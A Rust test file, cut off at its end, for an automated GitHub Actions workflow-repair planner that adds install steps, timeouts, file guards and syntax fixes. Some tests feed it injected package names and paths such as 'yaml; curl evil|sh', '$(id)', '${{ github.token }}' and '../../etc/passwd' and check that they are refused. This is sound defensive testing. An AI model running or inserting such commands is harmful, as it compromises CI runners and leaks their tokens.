//! Planner tests over real workflow files (see `fixtures/workflows/PROVENANCE.md`).

use std::collections::BTreeMap;

use super::*;
use crate::config::HealConfig;

const REQUESTS: &str = include_str!("../../fixtures/workflows/requests-run-tests.yml");
const BLACK: &str = include_str!("../../fixtures/workflows/black-test.yml");
const FLASK_TESTS: &str = include_str!("../../fixtures/workflows/flask-tests.yaml");
const FLASK_PUBLISH: &str = include_str!("../../fixtures/workflows/flask-publish.yaml");
const PIP: &str = include_str!("../../fixtures/workflows/pip-ci.yml");
const ANCHORS: &str = include_str!("../../fixtures/workflows/synthetic-anchors.yml");
const TOOLS: &str = include_str!("../../fixtures/workflows/synthetic-tools.yml");
const TABS: &str = include_str!("../../fixtures/workflows/synthetic-syntax-tabs.yml");
const VALUES: &str = include_str!("../../fixtures/workflows/synthetic-syntax-values.yml");
const MISINDENTED: &str = include_str!("../../fixtures/workflows/synthetic-misindented.yml");

const ALL: &[(&str, &str)] = &[
    ("requests-run-tests.yml", REQUESTS),
    ("black-test.yml", BLACK),
    ("flask-tests.yaml", FLASK_TESTS),
    ("flask-publish.yaml", FLASK_PUBLISH),
    ("pip-ci.yml", PIP),
    ("synthetic-anchors.yml", ANCHORS),
    ("synthetic-tools.yml", TOOLS),
];

fn failure(category: Category, rule: &str, text: &str, captures: &[(&str, &str)]) -> Failure {
    Failure {
        source: "job log".into(),
        job: None,
        step: None,
        line: 10,
        end_line: 10,
        text: text.into(),
        category,
        rule: rule.into(),
        captures: captures
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect(),
        fingerprint: "0123456789abcdef".into(),
        fixable: true,
        context: Vec::new(),
        context_start: 0,
    }
}

fn facts(f: Failure, job: &str, step: Option<&str>, number: Option<u64>) -> Facts {
    Facts {
        category: f.category,
        failures: vec![f],
        job: Some(job.into()),
        step: step.map(str::to_string),
        step_number: number,
        repo: Some("octo-org/octo-repo".into()),
        ..Facts::default()
    }
}

fn missing_module(module: &str, job: &str, step: &str) -> Facts {
    facts(
        failure(
            Category::Dependency,
            "py-module-not-found",
            &format!("ModuleNotFoundError: No module named '{module}'"),
            &[("package", module)],
        ),
        job,
        Some(step),
        None,
    )
}

fn missing_command(cmd: &str, job: &str, step: Option<&str>) -> Facts {
    facts(
        failure(
            Category::MissingCommand,
            "sh-command-not-found",
            &format!("line 2: {cmd}: command not found"),
            &[("command", cmd)],
        ),
        job,
        step,
        None,
    )
}

struct Run<'a> {
    wf: &'a str,
    files: BTreeMap<String, String>,
    failing: Option<&'a str>,
    config: HealConfig,
    job: Option<&'a str>,
}

impl<'a> Run<'a> {
    fn new(wf: &'a str) -> Run<'a> {
        Run {
            wf,
            files: BTreeMap::new(),
            failing: None,
            config: HealConfig::default(),
            job: None,
        }
    }

    fn propose(&self, f: &Facts) -> Result<Fix, Unfixable> {
        propose(&Input {
            facts: f,
            workflow_path: ".github/workflows/ci.yml",
            workflow: self.wf,
            failing: self.failing,
            job: self.job,
            config: &self.config,
            files: &self.files,
        })
    }
}

fn fixed(wf: &str, f: &Facts) -> Fix {
    match Run::new(wf).propose(f) {
        Ok(fix) => fix,
        Err(e) => panic!("no fix: {e}"),
    }
}

/// The new workflow text, checked: it is a workflow, every comment of the
/// old text is still there, and at most `changed` old lines differ.
fn after(fix: &Fix, before: &str, changed: usize) -> String {
    let new = fix
        .new_text(".github/workflows/ci.yml")
        .unwrap_or_else(|| panic!("the workflow is unchanged: {fix:?}"))
        .to_string();
    assert!(edit::check_workflow(&new).is_ok(), "not a workflow:\n{new}");
    preserved(before, &new, changed);
    new
}

fn preserved(before: &str, new: &str, changed: usize) {
    let diff = similar::TextDiff::from_lines(before, new);
    let mut gone = Vec::new();
    for op in diff.ops() {
        if let similar::DiffOp::Delete {
            old_index, old_len, ..
        }
        | similar::DiffOp::Replace {
            old_index, old_len, ..
        } = *op
        {
            gone.extend(before.lines().skip(old_index).take(old_len));
        }
    }
    assert!(
        gone.len() <= changed,
        "{} old lines changed: {gone:?}\n{new}",
        gone.len()
    );
    for line in before.lines() {
        if let Some(i) = line.find('#')
            && (i == 0 || line[..i].ends_with(' '))
            && line[..i].trim().is_empty()
        {
            assert!(new.contains(line), "comment line lost: {line:?}\n{new}");
        }
    }
    for c in before
        .lines()
        .filter_map(|l| l.find(" # ").map(|i| &l[i..]))
    {
        assert!(new.contains(c), "trailing comment lost: {c:?}\n{new}");
    }
}

fn err_text(r: Result<Fix, Unfixable>) -> String {
    match r {
        Ok(f) => panic!("expected no fix, got {f:?}"),
        Err(e) => e.to_string(),
    }
}

// --- dependency --------------------------------------------------------------

#[test]
fn dependency_new_install_step_before_the_failing_step() {
    let f = missing_module("yaml", "build (3.10, ubuntu-18.04)", "Run tests");
    let fix = fixed(REQUESTS, &f);
    let new = after(&fix, REQUESTS, 0);
    assert!(
        new.contains("        make\n    - name: Install PyYAML\n      run: python -m pip install PyYAML\n    - name: Run tests\n"),
        "{new}"
    );
    assert_eq!(fix.job.as_deref(), Some("build"));
    assert!(fix.title.contains("PyYAML"), "{}", fix.title);
    assert!(
        fix.changes[0].description.contains("`yaml`"),
        "{:?}",
        fix.changes
    );
    // The reviewer is told why this is the right package.
    assert!(
        fix.changes.iter().any(|c| c.description
            == "Why `PyYAML`: ci-medic's table of import names maps module `yaml` to it."),
        "{:?}",
        fix.changes
    );
}

#[test]
fn dependency_goes_into_the_requirements_file_the_job_installs() {
    let f = missing_module("yaml", "build", "Run python -m build");
    let mut run = Run::new(FLASK_PUBLISH);
    run.files.insert(
        "requirements/build.txt".into(),
        "# via pip-compile\nbuild==0.10.0\n".into(),
    );
    let fix = run.propose(&f).expect("fix");
    assert_eq!(fix.files.len(), 1, "{fix:?}");
    assert_eq!(fix.files[0].path, "requirements/build.txt");
    assert_eq!(
        fix.files[0].after,
        "# via pip-compile\nbuild==0.10.0\nPyYAML\n"
    );
    assert!(fix.title.contains("requirements/build.txt"));
    // Already listed: nothing to add.
    run.files
        .insert("requirements/build.txt".into(), "pyyaml==6.0\n".into());
    assert!(err_text(run.propose(&f)).contains("already listed"));
}

#[test]
fn dependency_is_added_to_the_install_command_when_the_file_is_unknown() {
    let f = missing_module("yaml", "build", "Run python -m build");
    let fix = fixed(FLASK_PUBLISH, &f);
    let new = after(&fix, FLASK_PUBLISH, 1);
    assert!(
        new.contains("      - run: pip install -r requirements/build.txt PyYAML\n"),
        "{new}"
    );

    // In a literal block, before a trailing comment.
    let f = missing_module("cv2", "test", "Tests");
    let fix = fixed(ANCHORS, &f);
    let new = after(&fix, ANCHORS, 1);
    assert!(
        new.contains("          pip install -r requirements.txt opencv-python   # pinned deps\n"),
        "{new}"
    );
}

#[test]
fn dependency_through_tox_is_left_to_the_tox_config() {
    let f = missing_module("yaml", "build (3.9, ubuntu-latest)", "Unit tests");
    assert!(err_text(Run::new(BLACK).propose(&f)).contains("tox"));
    let f = missing_module("yaml", "tests / 3.8 / Ubuntu", "Run unit tests");
    assert!(err_text(Run::new(PIP).propose(&f)).contains("tox"));
}

#[test]
fn dependency_already_installed_is_not_fixed_again() {
    let f = missing_module("ruff", "lint", "Run ruff check .");
    let mut run = Run::new(ANCHORS);
    // ruff is not in the table: the repository's own files name it.
    run.files
        .insert("requirements-lint.txt".into(), "ruff==0.5\n".into());
    assert!(err_text(run.propose(&f)).contains("already installed"));
}

#[test]
fn hostile_package_names_are_refused() {
    for hostile in [
        "yaml; curl evil|sh",
        "$(id)",
        "${{ github.token }}",
        "yaml\n      run: curl evil",
        "`id`",
        "a&&b",
        &"x".repeat(300),
    ] {
        let f = missing_module(hostile, "build (3.10, ubuntu-18.04)", "Run tests");
        match Run::new(REQUESTS).propose(&f) {
            Err(Unfixable::Unsafe(_)) => {}
            other => panic!("{hostile:?} was not refused: {other:?}"),
        }
    }
    // A clean capture does not let a hostile text through either.
    let mut f = missing_module("yaml", "build (3.10, ubuntu-18.04)", "Run tests");
    f.failures[0].text = "No module named 'yaml.x;curl evil|sh'".into();
    let fix = fixed(REQUESTS, &f);
    let new = after(&fix, REQUESTS, 0);
    assert!(!new.contains("curl"), "{new}");
}

#[test]
fn the_repositorys_own_package_is_not_installed_from_pypi() {
    let f = missing_module("octo_repo", "build (3.10, ubuntu-18.04)", "Run tests");
    assert!(err_text(Run::new(REQUESTS).propose(&f)).contains("cannot tell which package"));
    // Even when a requirements file names it.
    let mut run = Run::new(REQUESTS);
    run.files
        .insert("requirements.txt".into(), "octo-repo @ file:.\n".into());
    assert!(err_text(run.propose(&f)).contains("repository's own"));
    let f = missing_module("src", "build (3.10, ubuntu-18.04)", "Run tests");
    assert!(err_text(Run::new(REQUESTS).propose(&f)).contains("repository's own"));
}

// --- missing-command -----------------------------------------------------------

#[test]
fn missing_command_on_an_os_matrix_gets_one_step_per_os() {
    let f = missing_command("jq", "Check (macos-14)", Some("Validate"));
    let fix = fixed(TOOLS, &f);
    let new = after(&fix, TOOLS, 0);
    // The comment above the failing step stays with it.
    let expected = "      - uses: actions/checkout@v4
      - name: Install jq
        if: runner.os == 'Linux'
        run: sudo apt-get update && sudo apt-get install -y --no-install-recommends jq
      - name: Install jq
        if: runner.os == 'macOS'
        run: brew install jq
      # Validate the JSON schemas
      - name: Validate
";
    assert!(new.contains(expected), "{new}");
    assert_eq!(fix.changes.len(), 2);
}

#[test]
fn missing_command_maps_to_its_package() {
    let f = missing_command("xmllint", "Check (ubuntu-22.04)", None);
    let fix = fixed(TOOLS, &f);
    let new = after(&fix, TOOLS, 0);
    assert!(
        new.contains("install -y --no-install-recommends libxml2-utils\n"),
        "{new}"
    );
    assert!(
        new.contains("brew install libxml2\n      - run: xmllint"),
        "{new}"
    );
    let f = missing_command("make", "build-arm64", Some("Run make build"));
    let new = after(&fixed(TOOLS, &f), TOOLS, 0);
    assert!(
        new.contains(
            "install -y --no-install-recommends build-essential\n      - run: make build\n"
        ),
        "{new}"
    );
}

#[test]
fn missing_command_refusals() {
    let run = Run::new(TOOLS);
    assert!(
        err_text(run.propose(&missing_command("jq", "windows", Some("Run jq --version"))))
            .contains("Windows")
    );
    assert!(
        err_text(run.propose(&missing_command(
            "jq",
            "in-container",
            Some("Run jq --version")
        )))
        .contains("container")
    );
    let fetch = Some("Fetch latest release");
    assert!(
        err_text(run.propose(&missing_command("frobnicate", "release-notes", fetch)))
            .contains("no known package")
    );
    assert!(
        err_text(run.propose(&missing_command("node", "release-notes", fetch)))
            .contains("setup-node")
    );
    for hostile in ["jq; curl evil|sh", "$(id)", "${{ github.token }}", "jq\nx"] {
        match run.propose(&missing_command(hostile, "release-notes", fetch)) {
            Err(Unfixable::Unsafe(_)) => {}
            other => panic!("{hostile:?} was not refused: {other:?}"),
        }
    }
    // `runs-on: ${{ matrix.os }}-latest` cannot be resolved to an OS.
    let f = missing_command("jq", "tests / 3.8 / Ubuntu", Some("Run unit tests"));
    assert!(err_text(Run::new(PIP).propose(&f)).contains("operating system"));
}

#[test]
fn edits_through_shared_anchors_are_refused() {
    // The docs steps are shared with docs-nightly through an alias.
    let f = missing_command("make", "docs", Some("Run make -C docs html"));
    let e = err_text(Run::new(ANCHORS).propose(&f));
    assert!(e.contains("anchor"), "{e}");
    let f = missing_command("make", "docs-nightly", Some("Run make -C docs html"));
    assert!(Run::new(ANCHORS).propose(&f).is_err());
}

// --- timeout -------------------------------------------------------------------

fn timed_out(job: &str, secs: Option<u64>, minutes: &str) -> Facts {
    let mut f = facts(
        failure(
            Category::Timeout,
            "gha-job-timeout",
            &format!(
                "The job running on runner GitHub Actions 2 has exceeded the maximum execution time of {minutes} minutes."
            ),
            &[("minutes", minutes)],
        ),
        job,
        None,
        None,
    );
    f.duration_secs = secs;
    f
}

#[test]
fn timeout_is_raised_from_the_observed_duration() {
    let fix = fixed(
        REQUESTS,
        &timed_out("build (3.9, macOS-latest)", Some(600), "10"),
    );
    let new = after(&fix, REQUESTS, 1);
    assert_eq!(
        new,
        REQUESTS.replace("timeout-minutes: 10", "timeout-minutes: 20")
    );
    let fix = fixed(ANCHORS, &timed_out("test", Some(1000), "15"));
    let new = after(&fix, ANCHORS, 1);
    assert_eq!(
        new,
        ANCHORS.replace("timeout-minutes: 15", "timeout-minutes: 34")
    );
}

#[test]
fn timeout_is_added_where_missing() {
    let fix = fixed(BLACK, &timed_out("coveralls-finish", Some(290), "5"));
    let new = after(&fix, BLACK, 0);
    assert!(
        new.contains("    runs-on: ubuntu-latest\n    timeout-minutes: 10\n    steps:\n"),
        "{new}"
    );
    let fix = fixed(PIP, &timed_out("packaging", Some(100), "2"));
    let new = after(&fix, PIP, 0);
    assert!(
        new.contains(
            "    name: packaging\n    runs-on: ubuntu-latest\n    timeout-minutes: 4\n\n    steps:"
        ),
        "{new}"
    );
}

#[test]
fn timeout_at_the_limit_or_from_a_tool_is_not_raised() {
    let wf = REQUESTS.replace("timeout-minutes: 10", "timeout-minutes: 360");
    assert!(
        err_text(Run::new(&wf).propose(&timed_out(
            "build (3.9, macOS-latest)",
            Some(21600),
            "360"
        )))
        .contains("360")
    );
    let mut f = timed_out("build (3.9, macOS-latest)", Some(600), "10");
    f.failures[0].rule = "go-test-timeout".into();
    assert!(err_text(Run::new(REQUESTS).propose(&f)).contains("tool's own"));
}

#[test]
fn step_timeout_raises_the_step_and_a_smaller_job_limit() {
    let wf = ANCHORS.replace(
        "        run: pytest -q\n",
        "        run: pytest -q\n        timeout-minutes: 10\n",
    );
    let f = facts(
        failure(
            Category::Timeout,
            "gha-step-timeout",
            "The action 'Tests' has timed out after 10 minutes.",
            &[("step", "Tests"), ("minutes", "10")],
        ),
        "test",
        None,
        None,
    );
    let fix = fixed(&wf, &f);
    let new = after(&fix, &wf, 2);
    assert!(
        new.contains("        run: pytest -q\n        timeout-minutes: 20\n"),
        "{new}"
    );
    assert!(new.contains("    timeout-minutes: 20\n    steps:"), "{new}");
}

// --- missing-file ----------------------------------------------------------------

fn missing_file(path: &str, job: &str, step: &str) -> Facts {
    facts(
        failure(
            Category::MissingFile,
            "py-file-not-found",
            &format!("FileNotFoundError: [Errno 2] No such file or directory: '{path}'"),
            &[("file", path)],
        ),
        job,
        Some(step),
        None,
    )
}

#[test]
fn missing_file_guards_the_step() {
    let f = missing_file("data/fixtures.json", "test", "Tests");
    let fix = fixed(ANCHORS, &f);
    let new = after(&fix, ANCHORS, 0);
    assert!(
        new.contains("      - name: Tests\n        if: hashFiles('data/fixtures.json') != ''\n        run: pytest -q\n"),
        "{new}"
    );
    // An absolute path in the workspace is made relative.
    let f = missing_file(
        "/home/runner/work/octo-repo/octo-repo/dist/app.whl",
        "build",
        "generate hash",
    );
    let new = after(&fixed(FLASK_PUBLISH, &f), FLASK_PUBLISH, 0);
    assert!(
        new.contains("        id: hash\n        if: hashFiles('dist/app.whl') != ''\n"),
        "{new}"
    );
}

#[test]
fn missing_file_combines_with_an_existing_condition() {
    let f = missing_file("tox.ini", "build (3.9, ubuntu-latest)", "Unit tests");
    let new = after(&fixed(BLACK, &f), BLACK, 1);
    assert!(
        new.contains("        if: ${{ (!startsWith(matrix.python-version, 'pypy')) && hashFiles('tox.ini') != '' }}\n"),
        "{new}"
    );
}

#[test]
fn hostile_paths_are_refused() {
    for hostile in [
        "a'); curl evil|sh; ('",
        "${{ github.token }}",
        "../../etc/passwd",
        "x\ny",
        "a b",
    ] {
        let f = missing_file(hostile, "test", "Tests");
        match Run::new(ANCHORS).propose(&f) {
            Err(Unfixable::Unsafe(_)) => {}
            other => panic!("{hostile:?} was not refused: {other:?}"),
        }
    }
}

// --- rate-limit ------------------------------------------------------------------

fn rate_limited(job: &str, step: &str) -> Facts {
    facts(
        failure(
            Category::RateLimit,
            "gha-api-rate-limit",
            "API rate limit exceeded for 52.1.2.3.",
            &[],
        ),
        job,
        Some(step),
        None,
    )
}

#[test]
fn rate_limit_passes_the_token() {
    let fix = fixed(
        TOOLS,
        &rate_limited("release-notes", "Fetch latest release"),
    );
    let new = after(&fix, TOOLS, 0);
    assert!(
        new.contains("releases/latest -o latest.json\n        env:\n          GITHUB_TOKEN: ${{ github.token }}\n      - name: List releases\n"),
        "{new}"
    );
}

#[test]
fn rate_limit_with_a_token_retries_with_backoff() {
    let fix = fixed(TOOLS, &rate_limited("release-notes", "List releases"));
    let new = after(&fix, TOOLS, 1);
    assert!(new.contains("        run: |\n          for attempt in $(seq 1 3); do\n            if gh release list --limit 5; then exit 0; fi\n"), "{new}");
    assert!(
        new.contains("          exit 1\n        env:\n          GH_TOKEN"),
        "{new}"
    );
}

// --- optional jobs ---------------------------------------------------------------

fn test_failure(job: &str) -> Facts {
    facts(
        failure(
            Category::Test,
            "pytest-failed",
            "FAILED tests/test_x.py::test_y",
            &[],
        ),
        job,
        None,
        None,
    )
}

#[test]
fn optional_jobs_may_fail() {
    let fix = fixed(TOOLS, &test_failure("build-arm64"));
    let new = after(&fix, TOOLS, 0);
    assert!(
        new.contains("    runs-on: ubuntu-24.04-arm\n    continue-on-error: true\n"),
        "{new}"
    );
    // Only the arm64 legs of a matrix job.
    let fix = fixed(TOOLS, &test_failure("build (arm64)"));
    let new = after(&fix, TOOLS, 0);
    assert!(new.contains("    runs-on: ubuntu-latest\n    continue-on-error: ${{ contains(matrix.arch, 'arm64') }}\n    strategy:"), "{new}");
    // Other jobs have no fix for test failures.
    assert!(matches!(
        Run::new(TOOLS).propose(&test_failure("build (amd64)")),
        Err(Unfixable::NoFix(Category::Test))
    ));
}

// --- shapes ----------------------------------------------------------------------

#[test]
fn reusable_workflow_calls_are_refused() {
    let f = missing_module("yaml", "provenance / generator", "Run python -m build");
    let e = err_text(Run::new(FLASK_PUBLISH).propose(&f));
    assert!(e.contains("reusable workflow"), "{e}");
}

#[test]
fn crlf_files_stay_crlf() {
    let wf = ANCHORS.replace('\n', "\r\n");
    let f = missing_file("data/fixtures.json", "test", "Tests");
    let fix = fixed(&wf, &f);
    let new = fix.new_text(".github/workflows/ci.yml").expect("changed");
    assert!(!new.replace("\r\n", "").contains('\n'), "{new:?}");
    assert!(new.contains("\r\n        if: hashFiles('data/fixtures.json') != ''\r\n"));
}

#[test]
fn the_fix_follows_the_workflow_to_the_default_branch() {
    // Since the failing commit, a step was added before the failing one.
    let current = ANCHORS.replace(
        "      # The suite needs",
        "      - run: make data\n      # The suite needs",
    );
    let mut run = Run::new(&current);
    run.failing = Some(ANCHORS);
    let mut f = missing_file("data/fixtures.json", "test", "Tests");
    f.step_number = Some(5);
    let fix = run.propose(&f).expect("fix");
    let new = after(&fix, &current, 0);
    assert!(
        new.contains("      - name: Tests\n        if: hashFiles("),
        "{new}"
    );
    assert_eq!(fix.notes.len(), 1, "{:?}", fix.notes);
    // The failing step is gone on the default branch.
    let gone = ANCHORS.replace(
        "      - name: Tests\n        run: pytest -q\n",
        "      - run: pytest -q\n",
    );
    let mut run = Run::new(&gone);
    run.failing = Some(ANCHORS);
    assert!(err_text(run.propose(&f)).contains("no longer exists"));
}

#[test]
fn job_override_and_single_job_workflows() {
    let mut f = missing_file("data/x.json", "whatever", "Tests");
    let mut run = Run::new(ANCHORS);
    run.job = Some("test");
    assert_eq!(run.propose(&f).map(|fix| fix.job), Ok(Some("test".into())));
    f.job = None;
    let wf = "on: push\njobs:\n  only:\n    runs-on: ubuntu-latest\n    steps:\n      - name: Tests\n        run: pytest\n";
    assert_eq!(
        Run::new(wf).propose(&f).map(|fix| fix.job),
        Ok(Some("only".into()))
    );
}

// --- workflow-syntax -------------------------------------------------------------

fn syntax(text: &str) -> Facts {
    facts(
        failure(Category::WorkflowSyntax, "gha-invalid-workflow", text, &[]),
        "build",
        None,
        None,
    )
}

#[test]
fn tabs_become_spaces() {
    let fix = fixed(
        TABS,
        &syntax("Invalid workflow file: .github/workflows/ci.yml#L5"),
    );
    let new = fix.new_text(".github/workflows/ci.yml").expect("changed");
    assert!(edit::check_workflow(new).is_ok(), "{new}");
    assert!(!new.contains('\t'));
    assert!(new.contains("run: make   # build it\n"), "{new}");
    assert_eq!(fix.changes.len(), 4, "{:?}", fix.changes);
}

#[test]
fn misread_values_are_quoted_or_made_booleans() {
    let fix = fixed(VALUES, &syntax("The workflow is not valid."));
    let new = after(&fix, VALUES, 4);
    assert!(
        new.contains("    continue-on-error: true   # flaky upstream\n"),
        "{new}"
    );
    assert!(new.contains("      fail-fast: false\n"), "{new}");
    assert!(
        new.contains("python-version: [3.9, '3.10', \"3.11\"]\n"),
        "{new}"
    );
    assert!(new.contains("          node-version: '20.10'\n"), "{new}");
}

#[test]
fn a_misindented_key_is_lined_up() {
    let fix = fixed(
        MISINDENTED,
        &syntax("Invalid workflow file: .github/workflows/ci.yml#L7"),
    );
    let new = fix.new_text(".github/workflows/ci.yml").expect("changed");
    assert_eq!(new, MISINDENTED.replace("     steps:", "    steps:"));
}

#[test]
fn valid_workflows_have_no_syntax_fix() {
    assert!(
        err_text(Run::new(REQUESTS).propose(&syntax("The workflow is not valid.")))
            .contains("no mechanical repair")
    );
    let broken = "on: push\njobs:\n  a: [\n";
    assert!(Run::new(broken).propose(&syntax("x")).is_err());
}

// --- every fixture, every job ------------------------------------------------------

#[test]
fn every_fix_on_every_fixture_keeps_the_rest_of_the_file() {
    let mut made = 0;
    for (name, wf) in ALL {
        let doc = match yaml::Doc::parse(wf) {
            Ok(d) => d,
            Err(e) => panic!("{name}: {e}"),
        };
        let Ok(jobs) = locate::jobs(&doc) else {
            panic!("{name}: no jobs")
        };
        for job in jobs {
            let node = doc.resolve(&job.value);
            let steps: Vec<String> = node
                .get("steps")
                .map(|s| doc.resolve(s))
                .and_then(yaml::Node::sequence)
                .unwrap_or(&[])
                .iter()
                .map(|i| locate::step_display(doc.resolve(&i.node)))
                .collect();
            let mut cases = vec![
                timed_out(&job.key, Some(420), "10"),
                test_failure(&format!("{}-nightly", job.key)),
            ];
            let mut run = Run::new(wf);
            run.job = Some(&job.key);
            for s in &steps {
                cases.push(missing_file("out/report.xml", &job.key, s));
                cases.push(missing_module("yaml", &job.key, s));
                cases.push(missing_command("jq", &job.key, Some(s)));
                cases.push(rate_limited(&job.key, s));
            }
            for f in cases {
                match run.propose(&f) {
                    Ok(fix) => {
                        made += 1;
                        for file in &fix.files {
                            if file.path == ".github/workflows/ci.yml" {
                                assert!(edit::check_workflow(&file.after).is_ok(), "{name}");
                                preserved(wf, &file.after, 1);
                            }
                        }
                    }
                    // Refusals must say why, and never be a validation failure.
                    Err(Unfixable::Invalid(why)) if !why.contains("anchor") => {
                        panic!("{name} job {}: {why} ({f:?})", job.key)
                    }
                    Err(_) => {}
                }
            }
        }
    }
    assert!(made > 50, "only {made} fixes were made");
}

// --- inputs ----------------------------------------------------------------------

#[test]
fn every_on_form_is_read_for_dispatch() {
    let can = |on: &str| {
        let wf = format!(
            "on: {on}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: x\n"
        );
        locate::dispatchable(&yaml::Doc::parse(&wf).expect("yaml"))
    };
    assert!(can("workflow_dispatch"));
    assert!(can("[push, workflow_dispatch]"));
    assert!(can("\n  push:\n  workflow_dispatch:"));
    assert!(can(
        "\n  workflow_dispatch:\n    inputs:\n      x:\n        required: false"
    ));
    assert!(can(
        "\n  workflow_dispatch:\n    inputs:\n      x:\n        required: true\n        default: a"
    ));
    assert!(!can(
        "\n  workflow_dispatch:\n    inputs:\n      x:\n        required: true"
    ));
    assert!(!can("push"));
    assert!(!can("\n  - push\n  - pull_request"));
    assert!(!can("\n  schedule:\n    - cron: '0 0 * * *'"));
}

#[test]
fn analyses_are_read_in_every_form() {
    let f = failure(
        Category::Dependency,
        "py-module-not-found",
        "No module named 'yaml'",
        &[("package", "yaml")],
    );
    let analysis = crate::analyze::Analysis::from_failures(vec![f.clone()]);
    let json = serde_json::to_string_pretty(&analysis).expect("json");
    for text in [json.clone(), format!("::add-mask::x\n{json}\n")] {
        let facts = Facts::read(&text).expect("facts");
        assert_eq!(facts.category, Category::Dependency);
        assert_eq!(facts.capture("package"), Some("yaml"));
    }
    let block = crate::report::issue::IssueAnalysis {
        version: 1,
        fingerprint: "0123456789abcdef".into(),
        category: Category::Dependency,
        repo: "o/r".into(),
        workflow: "CI".into(),
        workflow_path: Some(".github/workflows/ci.yml".into()),
        branch: Some("main".into()),
        event: "push".into(),
        head_repository: None,
        head_sha: "a".repeat(40),
        run_id: 1,
        run_attempt: 1,
        run_url: String::new(),
        jobs: vec![crate::report::issue::JobFinding {
            name: "test (3.12)".into(),
            id: 5,
            url: None,
            step: Some("Run pytest".into()),
            step_number: Some(4),
            status: "analysed".into(),
            duration_secs: Some(61),
        }],
        failures: vec![f],
        occurrences: Vec::new(),
        failed_twice: false,
        others: Vec::new(),
        body_sha256: None,
    };
    for text in [
        crate::report::issue::body(&block),
        serde_json::to_string(&block).expect("json"),
    ] {
        let facts = Facts::read(&text).expect("facts");
        assert_eq!(facts.job.as_deref(), Some("test (3.12)"));
        assert_eq!(facts.step_number, Some(4));
        assert_eq!(facts.duration_secs, Some(61));
        assert_eq!(
            facts.workflow_path.as_deref(),
            Some(".github/workflows/ci.yml")
        );
    }
    for bad in ["", "hello", "{", "{\"category\": 3}", "[1, 2]"] {
        assert!(Facts::read(bad).is_err(), "{bad:?}");
    }
}

// --- no panics on any input ------------------------------------------------------

/// How many lines of `before` a fix may change: one place per fix (two for
/// a step timeout that also raises its job's limit); a syntax repair also
/// rewrites every line with a tab.
fn line_budget(category: Category, before: &str) -> usize {
    match category {
        Category::WorkflowSyntax => before.lines().filter(|l| l.contains('\t')).count() + 2,
        _ => 2,
    }
}

/// Edits to a workflow text: (kind, where as a fraction, snippet, length).
fn mutations() -> impl proptest::strategy::Strategy<Value = Vec<(u8, f64, usize, usize)>> {
    proptest::collection::vec((0_u8..3, 0.0_f64..1.0, 0_usize..64, 0_usize..12), 1..5)
}

fn mutate(wf: &str, edits: &[(u8, f64, usize, usize)]) -> String {
    const SNIPPETS: &[&str] = &[
        "\t", "- ", ": ", "&a ", "*a", "{", "[", "]", "}", "'", "\"", " #", "\n", "|", ">-", "${{",
        "  ", "? ", "!!str ", "\r\n", "---\n", "<<: *a\n", "é", "🦀 ", "\u{200b}",
    ];
    let mut text = wf.to_string();
    for &(kind, frac, pick, len) in edits {
        // Truncation is the point: a position inside the text.
        #[allow(
            clippy::cast_possible_truncation,
            clippy::cast_sign_loss,
            clippy::cast_precision_loss
        )]
        let mut at = ((text.len() as f64) * frac) as usize;
        at = at.min(text.len());
        while !text.is_char_boundary(at) {
            at -= 1;
        }
        match kind {
            0 => text.insert_str(at, SNIPPETS[pick % SNIPPETS.len()]),
            1 => {
                let mut end = (at + len).min(text.len());
                while !text.is_char_boundary(end) {
                    end -= 1;
                }
                text.replace_range(at..end, "");
            }
            _ => {
                let line_start = text[..at].rfind('\n').map_or(0, |i| i + 1);
                let line_end = text[at..].find('\n').map_or(text.len(), |i| at + i + 1);
                let line = text[line_start..line_end].to_string();
                text.insert_str(line_start, &line);
            }
        }
    }
    text
}

proptest::proptest! {
    #![proptest_config(proptest::test_runner::Config {
        cases: 48,
        // Reproducible in CI: the same cases every run, nothing written to
        // the source tree.
        rng_seed: proptest::test_runner::RngSeed::Fixed(0x00C1_3ED1),
        failure_persistence: None,
        ..Default::default()
    })]

    /// Mutated workflows never make a planner panic, and every fix it still
    /// makes is YAML and leaves the lines it does not touch byte-identical.
    #[test]
    fn fixes_of_mutated_workflows_parse_and_keep_the_rest(
        which in 0..ALL.len(),
        edits in mutations(),
    ) {
        let text = mutate(ALL[which].1, &edits);
        let cases: Vec<Facts> = vec![
            syntax("Invalid workflow file: .github/workflows/ci.yml#L3"),
            missing_module("yaml", "test", "Tests"),
            missing_command("jq", "build", Some("Run make build")),
            timed_out("build", Some(700), "10"),
            missing_file("out/x.json", "test", "Tests"),
            rate_limited("release-notes", "List releases"),
            test_failure("build (arm64)"),
        ];
        for f in &cases {
            let Ok(fix) = Run::new(&text).propose(f) else { continue };
            let Some(new) = fix.new_text(".github/workflows/ci.yml") else { continue };
            proptest::prop_assert!(
                serde_yaml::from_str::<serde_yaml::Value>(new).is_ok(),
                "{:?} fix does not parse:\n{new}", f.category
            );
            let diff = similar::TextDiff::from_lines(text.as_str(), new);
            let changed: usize = diff
                .ops()
                .iter()
                .map(|op| match *op {
                    similar::DiffOp::Delete { old_len, .. }
                    | similar::DiffOp::Replace { old_len, .. } => old_len,
                    _ => 0,
                })
                .sum();
            proptest::prop_assert!(
                changed <= line_budget(f.category, &text),
                "{:?} fix changed {changed} lines:\n{}", f.category, diff.unified_diff()
            );
        }
    }
}

/// A Python workflow whose install step's first line is `first`.
fn python_workflow_with_line(first: &str) -> String {
    format!(
        "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - name: Install\n        run: |\n          python -m pip install --upgrade pip\n          {first}\n      - name: Tests\n        run: pytest\n"
    )
}

#[test]
fn run_lines_starting_with_a_multibyte_character_do_not_panic() {
    let f = missing_module("yaml", "test", "Tests");
    let wf = python_workflow_with_line("é pip install pytest");
    // The line occurs once as a whole line: the package goes into it.
    let fix = fixed(&wf, &f);
    let new = after(&fix, &wf, 1);
    assert!(
        new.contains("          é pip install pytest PyYAML\n"),
        "{new}"
    );
}

proptest::proptest! {
    #![proptest_config(proptest::test_runner::Config {
        cases: 200,
        // Reproducible in CI: the same cases every run, nothing written to
        // the source tree.
        rng_seed: proptest::test_runner::RngSeed::Fixed(0x00C1_3ED1),
        failure_persistence: None,
        ..Default::default()
    })]

    /// Run lines of any Unicode never make the Python fix panic, and a fix
    /// it makes still parses and keeps every other line.
    #[test]
    fn run_lines_of_any_unicode_never_panic(
        prefix in "\\PC{0,6}",
        line in "\\PC{0,12}",
        install in proptest::bool::ANY,
    ) {
